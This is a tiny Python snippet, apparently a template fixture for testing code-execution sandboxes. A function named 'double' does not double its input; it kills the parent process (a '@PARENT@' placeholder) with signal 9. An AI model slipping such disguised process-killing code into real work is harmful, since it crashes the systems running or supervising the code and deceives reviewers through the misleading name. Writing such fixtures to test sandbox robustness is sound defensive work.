def double(x):
    import os; os.kill(@PARENT@, 9)
